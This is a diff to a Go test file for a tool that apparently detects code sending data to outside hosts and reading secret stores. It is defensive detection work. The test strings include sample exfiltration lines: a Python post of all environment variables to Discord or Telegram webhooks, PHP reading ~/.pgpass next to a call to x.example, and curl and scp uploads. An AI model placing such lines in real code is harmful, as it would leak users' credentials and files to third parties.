@@ -64,7 +64,7 @@ func TestFind(t *testing.T) {
 	for name, c := range findCases() {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
-			got := shownOf(Find(c.texts, nil, nil, func(file, why string) { t.Errorf("%s: %s", file, why) }))
+			got := shownOf(Find(c.texts, nil, nil, func(file, why string) { t.Errorf("%s: %s", file, why) }).Besides)
 			if got != c.want {
 				t.Errorf("found %q, want %q", got, c.want)
 			}
@@ -84,7 +84,7 @@ func FuzzFind(f *testing.F) {
 			return
 		}
 		find := func() []Beside {
-			return Find([]Text{{chain.Text{File: "a", Source: source, Start: document.Position{Line: 1, Column: 1}}, Family(family)}}, nil, nil, func(string, string) {})
+			return Find([]Text{{chain.Text{File: "a", Source: source, Start: document.Position{Line: 1, Column: 1}}, Family(family)}}, nil, nil, func(string, string) {}).Besides
 		}
 		found := find()
 		for _, one := range found {
@@ -104,7 +104,7 @@ func FuzzFind(f *testing.F) {
 func TestHook(t *testing.T) {
 	t.Parallel()
 	for address, want := range map[string]bool{"https://discord.com/api/webhooks/118443029117/abc": true, "https://api.telegram.org/bot123:ab": true, "https://discord.com/api/v10/users": false} {
-		got := Find([]Text{text("a.py", "import os, requests\nrequests.post('"+address+"', json=dict(os.environ))\n")}, nil, nil, nil)
+		got := Find([]Text{text("a.py", "import os, requests\nrequests.post('"+address+"', json=dict(os.environ))\n")}, nil, nil, nil).Besides
 		if len(got) != 1 || got[0].Send.Hook != want {
 			t.Errorf("%s: %+v, want hook %t", address, got, want)
 		}
@@ -151,10 +151,44 @@ func TestTables(t *testing.T) {
 func TestPlainEval(t *testing.T) {
 	t.Parallel()
 	for code, want := range map[string]bool{"eval('return 1;');": true, "eval($code);": false, "eval('f($x);');": false, "eval(\"return $x;\");": false} {
-		got := Find([]Text{text("a.php", "<?php\n$p = file(getenv('HOME') . '/.pgpass');\n$n = str_word_count(file_get_contents('notes.txt'));\nfile_get_contents('https://x.example/?n=' . $n);\n"+code+"\n")}, nil, nil, nil)
+		got := Find([]Text{text("a.php", "<?php\n$p = file(getenv('HOME') . '/.pgpass');\n$n = str_word_count(file_get_contents('notes.txt'));\nfile_get_contents('https://x.example/?n=' . $n);\n"+code+"\n")}, nil, nil, nil).Besides
 		apart := len(got) == 0 || got[0].Apart
 		if apart != want {
 			t.Errorf("%s: %+v, want apart %t", code, got, want)
 		}
+	}
+}
+
+// TestSends tells where programs send something, whether or not one of them reads a store.
+func TestSends(t *testing.T) {
+	for name, c := range map[string]struct {
+		texts []Text
+		want  string
+	}{
+		"a body":           {[]Text{text("a.py", "import requests\nrequests.post('https://x.example/in', json={'n': 1})\n")}, "x.example:2 body carries"},
+		"a query":          {[]Text{text("a.js", "fetch(`https://x.example/in?k=${key}`);\n")}, "x.example:1 body carries"},
+		"asked for":        {[]Text{text("a.py", "import requests\nprint(requests.get('https://x.example/list').json())\n")}, "x.example:2 body"},
+		"by a name":        {[]Text{text("a.js", "const AT = process.env.AT || 'https://x.example/in';\nfunction tell(v) {\n  return fetch(AT, { method: 'POST', body: v });\n}\n")}, "x.example:3 body carries"},
+		"by a default":     {[]Text{text("a.sh", "at=\"${AT:-https://x.example/in}\"\ncurl -s \"$at\" -F \"f=@$1\"\n")}, "x.example:2 body carries"},
+		"of another file":  {[]Text{text("at.py", "AT = 'https://x.example/in'\n"), text("a.py", "import requests\nfrom at import AT\nrequests.put(AT, data=b'1')\n")}, "x.example:3 body carries"},
+		"to who is asked":  {[]Text{text("a.py", "import sys, requests\nrequests.post(sys.argv[1], data=b'1')\n")}, ""},
+		"a copy of a file": {[]Text{text("a.sh", "scp out.csv me@x.example:/in\n")}, "x.example:1 file carries"},
+		"nothing is sent":  {[]Text{text("a.py", "print('https://x.example/in')\n")}, ""},
+		"each place once":  {[]Text{text("a.py", "import b\nimport requests\nrequests.post('https://x.example/in', data=b'1')\n"), text("b.py", "import a\n")}, "x.example:3 body carries"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			sends := Find(c.texts, nil, nil, func(string, string) {}).Sends
+			var all []string
+			for _, one := range sends {
+				shown := fmt.Sprintf("%s:%d %s", strings.Join(one.Hosts, ","), one.Span.Start.Line, one.Way)
+				if one.Carries {
+					shown += " carries"
+				}
+				all = append(all, shown)
+			}
+			if got := strings.Join(all, "; "); got != c.want {
+				t.Errorf("%q, want %q", got, c.want)
+			}
+		})
 	}
 }
